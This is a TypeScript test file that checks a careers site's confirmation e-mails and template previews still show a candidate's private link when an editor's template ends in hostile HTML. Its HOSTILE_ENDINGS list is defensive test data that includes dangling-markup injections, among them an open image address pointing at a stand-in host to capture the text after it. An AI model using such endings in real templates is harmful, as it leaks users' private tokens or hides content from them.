import { emailTemplatePreviewSchema, siteTextsIn } from '@careers/shared';
import { afterAll, describe, expect, it } from 'vitest';
import { createAdmin, deliverMail, postJson, signIn } from '../support/admin-session';
import { applicationForm, openPosting, submitApplication } from '../support/apply-request';
import { readMailHtml } from '../support/mail-html';
import type { CapturedMail } from '../support/smtp-capture';
import { testServer } from '../support/test-server';

// Whatever an editor makes the confirmation template end with, the candidate's private link still
// shows after it: in the HTML part as a mail app parses it, and in the text part.

const TEMPLATE = 'api::email-template.email-template';
const PRIVATE_LINK = /\/my-applications\/#([A-Za-z0-9_-]{43})$/;
const PRIVATE_LINK_IN_TEXT = /\/my-applications\/#[A-Za-z0-9_-]{43}\b/;

/** Endings that, appended to the real template, would swallow or hide what follows them. */
const HOSTILE_ENDINGS: [string, string][] = [
  ['an image address left open', "<img src='https://x.example/?d="],
  ['a comment left open', '<!--'],
  ['a link address left open', '<a href="'],
  ['a style sheet left open', '<style>'],
  ['a style sheet hiding every link', '<style>a { display: none !important }</style>'],
  ['a text area', '<textarea>'],
  ['a title', '<title>'],
  ['a script', '<script>'],
  ['a noscript', '<noscript>'],
  ['an xmp', '<xmp>'],
  ['a plaintext', '<plaintext>'],
  ['a template element', '<template>'],
  ['a select', '<select>'],
  ['an iframe', '<iframe>'],
  ['a hidden div left open', '<div style="display:none">'],
  ['a div with the hidden attribute left open', '<div hidden>'],
  ['a zero-height div left open', '<div style="font-size:0;max-height:0;overflow:hidden">'],
];

const server = await testServer();
const editor = await signIn(server, await createAdmin(server, 'super_admin'));
const posting = await openPosting(server);
const received = (await server.strapi.db
  .query(TEMPLATE)
  .findOne({ where: { template_key: 'application_received' } })) as {
  documentId: string;
  subject: string;
  body: string;
  subject_ar: string;
  body_ar: string;
  is_active: boolean;
};
let applied = 0;

/** The confirmation template saved through the back office, as an editor would. */
async function saveTemplate(wording: { body: string; body_ar?: string }): Promise<void> {
  const answer = await postJson(
    server,
    `/api/backoffice/email-templates/${received.documentId}`,
    { subject: received.subject, is_active: received.is_active, ...wording },
    editor,
    'PUT',
  );
  expect(answer.status).toBe(200);
}

afterAll(() => saveTemplate({ body: received.body, body_ar: received.body_ar }));

/** A candidate applies through the public API; the confirmation is delivered to the capture. */
async function confirmationTo(language: 'en' | 'ar'): Promise<CapturedMail> {
  applied += 1;
  const email = `hostile.template.${applied}.${Date.now()}@example.com`;
  const form = applicationForm(server, posting, { fields: { email, candidate_language: language } });
  const answer = await submitApplication(server, form);
  expect(answer.status).toBe(201);
  await deliverMail(server);
  const mail = server.smtp.to(email).at(-1);
  if (!mail) throw new Error(`no confirmation mailed to ${email}`);
  return mail;
}

/** The private link as the reader sees it in each part; the HTML's is the one that opens their page. */
async function expectPrivateLinkShown(mail: { html: string; text: string }, language: 'en' | 'ar') {
  const texts = siteTextsIn(language).selfService;
  const read = readMailHtml(mail.html);
  expect.soft(read.styleSheets, 'style sheets in the HTML part').toBe(0);
  const link = read.shownLinks.find((shown) => PRIVATE_LINK.test(shown.href));
  expect.soft(link, 'the private link shown in the HTML part').toBeDefined();
  expect.soft(link?.text, 'the private link written out').toBe(link?.href);
  expect.soft(mail.text, 'the private link in the text part').toMatch(PRIVATE_LINK_IN_TEXT);
  // The text part is wrapped at 78 characters: its lines are read as one.
  const words = mail.text.replace(/\s+/g, ' ');
  expect.soft(words).toContain(texts.emailLinkLine);
  expect.soft(words).toContain(texts.emailLinkPrivate);
  if (link) expect.soft(mail.text).toContain(link.href);
  return link;
}

describe('the private link in the confirmation e-mail', () => {
  it.each(HOSTILE_ENDINGS)('shows after a template ending in %s, and opens the candidate’s page', async (_, ending) => {
    await saveTemplate({ body: `${received.body}${ending}` });
    const mail = await confirmationTo('en');
    const link = await expectPrivateLinkShown(mail, 'en');
    const token = PRIVATE_LINK.exec(link?.href ?? '')?.[1];
    const opened = await postJson(server, '/api/public/my-data', { token });
    expect(opened.status).toBe(200);
  });

  it('shows after an Arabic wording ending in a comment left open', async () => {
    await saveTemplate({ body: received.body, body_ar: `${received.body_ar}<!--` });
    const mail = await confirmationTo('ar');
    const link = await expectPrivateLinkShown(mail, 'ar');
    expect(link?.href).toContain('/ar/my-applications/#');
  });
});

describe('the template editor', () => {
  it.each(HOSTILE_ENDINGS)('previews a draft ending in %s with the private link shown after it', async (_, ending) => {
    const answer = await postJson(
      server,
      `/api/backoffice/email-templates/${received.documentId}/preview`,
      { body: `${received.body}${ending}` },
      editor,
    );
    expect(answer.status).toBe(200);
    const read = readMailHtml(emailTemplatePreviewSchema.parse(answer.body).html);
    expect(read.styleSheets).toBe(0);
    expect(read.shownLinks.map((link) => link.href)).toContainEqual(expect.stringMatching(/\/my-applications\/#.+$/));
  });

  it('sends a test of such a draft with the private link shown in both parts', async () => {
    const to = `hostile.test.${Date.now()}@example.com`;
    const answer = await postJson(
      server,
      `/api/backoffice/email-templates/${received.documentId}/test`,
      { to, body: `${received.body}<img src='https://x.example/?d=` },
      editor,
    );
    expect(answer.status).toBe(200);
    const mail = server.smtp.to(to).at(-1);
    const read = readMailHtml(mail?.html ?? '');
    const href = read.shownLinks.find((shown) => /\/my-applications\/#.+$/.test(shown.href))?.href;
    expect(href, 'the sample private link shown in the HTML part').toBeDefined();
    expect(mail?.text).toContain(href ?? '(no link in the HTML part)');
    expect(mail?.text).toContain(siteTextsIn('en').selfService.emailLinkPrivate);
  });
});
